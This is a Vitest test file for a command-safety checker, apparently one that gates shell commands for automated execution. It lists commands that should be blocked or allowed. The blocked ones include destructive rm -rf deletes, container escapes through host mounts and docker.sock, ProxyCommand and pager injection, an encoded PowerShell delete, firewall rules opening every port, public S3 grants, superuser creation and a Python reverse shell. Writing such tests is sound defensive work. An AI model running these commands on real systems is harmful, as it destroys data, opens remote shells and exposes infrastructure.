import { describe, expect, it } from 'vitest';
import { check } from '../support/runtime.js';

// Two of this change's rules lower scrutiny: a fresh container's own files, and looking on a production
// host. A hostile review attacked both (and the new readers); each case here was allowed by its first
// version, or blocked everyday work.

describe('a container is sealed only when every option before the image is known to bring nothing in', () => {
  it.each([
    'podman run --rm --rootfs / rm -rf /etc',
    'docker run --rm minio/mc rm --recursive --force prod/backups',
    'docker run --rm --network host bitnami/etcd etcdctl del --prefix /',
    'docker run --rm --cpu-shares 512 -v /:/host alpine rm -rf /host/etc',
    'docker run --rm --cgroupns host alpine rm -rf /',
    'docker run --rm --some-new-option x alpine rm -rf /',
  ])('%s is not allowed', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).not.toBe('allow');
  });

  it.each([
    "docker run --rm -it -e X=1 --name t alpine sh -c 'rm -rf /var'",
    'docker run --rm alpine rm -rf /',
  ])('%s stays allowed', async (command) => {
    expect((await check(command)).decision.outcome).toBe('allow');
  });
});

describe('looking on a production host, narrowly', () => {
  it.each([
    "ssh prod-db-1 'mkdir /etc/nologin'",
    "ssh prod-db-1 'mkdir /etc/nginx/conf.d/new.conf'",
    "ssh prod-db-1 'tcpdump -nw /var/lib/postgresql/data/PG_VERSION'",
    "ssh prod-db-1 'tcpdump -w /tmp/../etc/passwd'",
    "ssh prod-db-1 'tcpdump -i any -w /tmp/x.pcap -G 60 -nz /tmp/evil.sh'",
    "ssh prod-db-1 'sar -uo /etc/passwd 1 3'",
    "ssh prod-db-1 's3cmd get s3://bucket/job /etc/cron.d/job'",
    "ssh prod-db-1 'mytool status --output /etc/passwd'",
    "ssh prod-db-1 'mytool status --shutdown'",
  ])('%s is denied', async (command) => {
    expect((await check(command)).decision.outcome).toBe('deny');
  });

  it.each([
    "ssh prod-db-1 'mkdir -p /tmp/diag'",
    "ssh prod-db-1 'mkdir diag'",
    "ssh prod-db-1 'mktemp -d'",
    "ssh prod-db-1 'tcpdump -i eth0 -c 100 -nw /tmp/diag/web.pcap port 443'",
    "ssh prod-db-1 'sar -u 1 3'",
    "ssh prod-web-1 'pm2 logs api --lines 100'",
  ])('%s stays allowed', async (command) => {
    expect((await check(command)).decision.outcome).toBe('allow');
  });
});

describe('the new readers, in the spellings the review found', () => {
  it.each([
    `GIT_SSH_COMMAND='ssh -o ProxyCommand="rm -rf /srv/app"' git fetch`,
    "GIT_SSH_COMMAND='ssh -oProxyCommand=rm\\ -rf\\ /srv/app' git fetch",
    `RSYNC_RSH='ssh -o ProxyCommand="rm -rf /srv/app"' rsync -a src/ host:dst/`,
    "ssh -o ProxyCommand='rm -rf /srv/app' host",
    "AWS_PAGER='rm -rf /srv/app' aws s3 ls",
    "GH_PAGER='rm -rf /srv/app' gh pr list",
    'git -c core.hooksPath=../other/hooks commit -m x',
    'git -c core.hooksPath=.git/../../../tmp/h commit -m x',
    'pwsh -enco UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAAvAHMAcgB2AC8AYQBwAHAA',
    'pwsh -Command "Remove-Item -Recurse -Force -Path /srv/app -WhatIf:0"',
    'expect -c \'spawn env bash; send "rm -rf /srv/app\\r"; expect eof\'',
  ])('%s is not allowed', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).not.toBe('allow');
  });

  it.each([
    'git -c core.hooksPath="$PWD/.githooks" commit -m x',
    'git -c core.hooksPath=$(git rev-parse --show-toplevel)/.githooks commit -m x',
    'GIT_SSH_COMMAND="ssh -i $KEY" git pull',
    "ssh -o ProxyCommand='ssh -W %h:%p bastion' db-1 uptime",
    'pwsh -c "New-Item -ItemType Directory -Path ./build"',
    'pwsh -Command "Invoke-Pester ./tests"',
    'pwsh -Command "Install-Module Pester -Scope CurrentUser"',
    'pwsh -c "Import-Module ./build.psm1; Invoke-Build"',
    'expect -c \'spawn sudo -S apt update; expect "password"; send "pw\\r"; expect eof\'',
    'expect -c \'spawn bash -i; send "ls\\r"; expect eof\'',
  ])('%s stays allowed', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
  });

  it('a password typed at a prompt is not read as a command (nor made an effect)', async () => {
    const r = await check(
      'expect -c \'spawn ssh prod-db-1; expect "password:"; send "hunter2\\r"; interact\'',
    );
    expect(JSON.stringify(r.assessment.effects)).not.toContain('hunter2');
    expect(r.decision.outcome).toBe('allow');
  });
});

describe('more spellings from the review', () => {
  it.each([
    'createuser -dsr eve',
    'createuser --su eve',
    'vault token create --policy=root',
    'nomad job stop --purge api',
    `mongosh admin --eval 'db.createUser({user:"eve",pwd:"x",roles:["dbOwner"]})'`,
    'nsenter -m/proc/1/ns/mnt sh',
    'ctr run --rm --privileged=true docker.io/library/alpine:latest x sh',
    'lxc launch ubuntu:22.04 c1 -c security.privileged=true',
    'incus config set c1 security.privileged true',
    'ufw allow 1:65535/tcp',
    'ufw allow 22,5432/tcp',
    'ufw allow from any',
    'firewall-cmd --permanent --add-port=1-65535/tcp',
    'firewall-cmd --set-default-zone trusted',
    'iptables -I INPUT -j ACCEPT',
    'iptables -A INPUT -p tcp -m multiport --dports 80,22 -j ACCEPT',
    'iptables -A INPUT -p tcp --destination-port 22 -j ACCEPT',
    'iptables -A INPUT -s 0/0 -p tcp --dport 22 -j ACCEPT',
    'nft add rule inet filter input tcp dport { 22, 5432 } accept',
    'nft add rule inet filter input accept',
    'pfctl -Fa',
    'aws s3 sync ./dump s3://b/ --acl public-read',
    'aws s3 cp ./dump.sql s3://b/ --grants read=uri=http://acs.amazonaws.com/groups/global/AllUsers',
    "aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --create-volume-permission 'Add=[{Group=all}]'",
    'az network nsg rule create -g rg --nsg-name n -n r --priority 100 --destination-port-ranges 22',
    'docker run --rm --mount type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock docker:cli',
    'docker run --rm -v /var/run:/var/run docker:cli sh',
    'docker run --rm -v /run/containerd/containerd.sock:/run/containerd/containerd.sock alpine sh',
    'docker container run --rm -v /:/host alpine rm -rf /host/etc',
    "vim -es -c '%d' -c 'w! /etc/fstab' -c 'q!' README.md",
    "vim -es -c '%d' -c 'sav! /etc/sudoers' -c 'q!'",
    `pwsh -c '[System.IO.Directory]::Delete("/srv/app", $true)'`,
    "pwsh -c 'sal x Remove-Item; x /srv/app -Recurse -Force'",
    'kubectl debug node/node-1 -it --image=alpine --profile=sysadmin',
    'kubectl debug node/worker-3 -it --image=busybox -- chroot /host rm -rf /var/lib/kubelet',
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect_ex(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
  ])('%s is not allowed', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).not.toBe('allow');
  });

  it.each([
    'createuser -d app',
    `mongosh app --eval 'db.createUser({user:"eve",pwd:"x",roles:["dbOwner"]})'`,
    'lxc launch ubuntu:22.04 c1',
    'ufw allow 80,443/tcp',
    'ufw allow from 10.0.0.0/8',
    'iptables -A INPUT -i lo -j ACCEPT',
    'iptables -A INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT',
    'iptables -A INPUT -p icmp -j ACCEPT',
    'nft add rule inet filter input ct state established,related accept',
    'az network nsg rule update -g rg --nsg-name n -n r --priority 200',
    'docker run --rm -it -v /var/run/docker.sock:/var/run/docker.sock wagoodman/dive:latest myimage',
    'docker container run --rm alpine rm -rf /',
    "pwsh -c '[Math]::Round(2.5)'",
  ])('%s stays allowed', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
  });
});
